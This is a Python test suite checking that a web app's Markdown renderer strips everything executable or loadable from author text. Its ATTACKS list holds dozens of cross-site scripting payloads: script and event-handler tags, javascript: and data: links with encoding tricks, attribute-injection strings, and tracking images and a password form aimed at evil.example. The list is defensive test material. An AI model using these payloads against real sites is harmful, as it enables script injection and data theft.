"""Markdown: what an author may write is shown, and nothing in it can run, frame, load or style anything."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from app.web.markdown import html, inline_html

BLOCKS = {
    "p", "em", "strong", "ul", "ol", "li", "blockquote", "code", "pre", "br", "hr", "h3", "h4", "a",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
INLINE = {"em", "strong", "code", "br"}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}

ATTACKS = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=https://evil.example>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<p style='position:fixed' onclick=alert(1)>x</p>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://a.example onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "**<script>alert(1)</script>**",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1) x="\ncode\n```',
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    # addresses that run
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](javascript://a.example/%0aalert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)> 'title'",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:text/html,x)",
    "[x](data:image/png;base64,AAAA)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<data:text/html,x>",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](http://a.example)",
    "<ftp://a.example>",
    # handlers out of quotes
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "[x](https://a.example 't&quot; onmouseover=&quot;alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](<https://a.example/' onclick='alert(1)>)",
    '<https://a.example/"onclick="alert(1)>',
    # images load, and tell who reads
    "![x](https://evil.example/seen.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "[![x](https://evil.example/seen.png)](javascript:alert(1))",
]


class Reader(HTMLParser):
    """Every tag, attribute, comment and declaration that a browser would see."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.other: list[str] = []
        self.text = ""
        # A plain string: Markup would escape what it is joined with.
        self.feed(str(source))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def dangers(source: str, allowed: set[str]) -> list[str]:
    read = Reader(source)
    found = [f"not markup: {other}" for other in read.other]
    for tag, attributes in read.tags:
        if tag not in allowed:
            found.append(f"<{tag}>")
        found += [f"<{tag} {name}>" for name in attributes if name not in ATTRIBUTES.get(tag, set())]
        scheme = urlsplit(attributes.get("href", "")).scheme
        if scheme not in ("", "https", "mailto"):
            found.append(f"href {attributes['href']!r}")
    return found


@pytest.mark.parametrize("text", ATTACKS)
def test_attack_does_not_survive(text):
    assert dangers(html(text), BLOCKS) == []
    assert dangers(inline_html(text), INLINE) == []


@pytest.mark.parametrize(
    "source",
    [
        "<script>", "<p onclick='x'>", "<p style='x'>", "<!-- x -->", "<a href='javascript:x'>", "<a href=data:x>",
        "<img src=x>",
    ],
)  # fmt: skip
def test_danger_would_be_seen(source):
    """The net of these tests has no such hole."""
    assert dangers(Markup(source), BLOCKS)


PIECES = [
    *"<>&\"'()[]!`*_#|\\/:;= \n\t\x01-",
    "javascript:",
    "data:",
    "onerror=",
    "script",
    "https://a.b",
    "&#106;",
    "x",
]


@settings(derandomize=True, database=None, deadline=None, max_examples=400)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_no_mixture_is_dangerous(text):
    assert dangers(html(text), BLOCKS) == []
    assert dangers(inline_html(text), INLINE) == []


@pytest.mark.parametrize("text", ["<b>bold</b>", "a < b & c > d", 'x="1"', "<script>alert(1)</script>", "2 &lt; 3"])
def test_what_looks_like_html_is_shown_as_it_was_written(text):
    shown = text.replace("&lt;", "<")
    assert Reader(html(text)).text.strip() == shown
    assert Reader(inline_html(text)).text == shown


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("plain", "<p>plain</p>"),
        ("*a* **b** `c`", "<p><em>a</em> <strong>b</strong> <code>c</code></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a", "<ol>\n<li>a</li>\n</ol>"),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("### a", "<h3>a</h3>"),
        ("恪尽**职守**。", "<p>恪尽<strong>职守</strong>。</p>"),
        ("|a|\n|-|\n|b|", "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n"
         "</tbody>\n</table>"),
        ("", ""),
    ],
)  # fmt: skip
def test_block(text, source):
    assert html(text).strip() == source


@pytest.mark.parametrize(
    "address", ["https://a.example/b?c=d", "mailto:office@a.example", "/handbook/duty", "#section-1"]
)
def test_harmless_link_survives_and_tells_nobody(address):
    ((_, attributes),) = [tag for tag in Reader(html(f"[x]({address})")).tags if tag[0] == "a"]
    assert attributes["href"] == address
    assert attributes["rel"].split() == ["noopener", "noreferrer"]


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("plain", "plain"),
        ("*a* **b** `c`", "<em>a</em> <strong>b</strong> <code>c</code>"),
        ("[words](https://a.example)", "words"),
        ("# a", "# a"),
        ("- a", "- a"),
        ("a\\\nb", "a<br>\nb"),
        ("", ""),
    ],
)
def test_inline_has_no_blocks_and_no_links(text, source):
    assert inline_html(text) == source


@pytest.mark.parametrize("render", [html, inline_html])
def test_result_is_not_escaped_again(render):
    assert isinstance(render("*a*"), Markup)
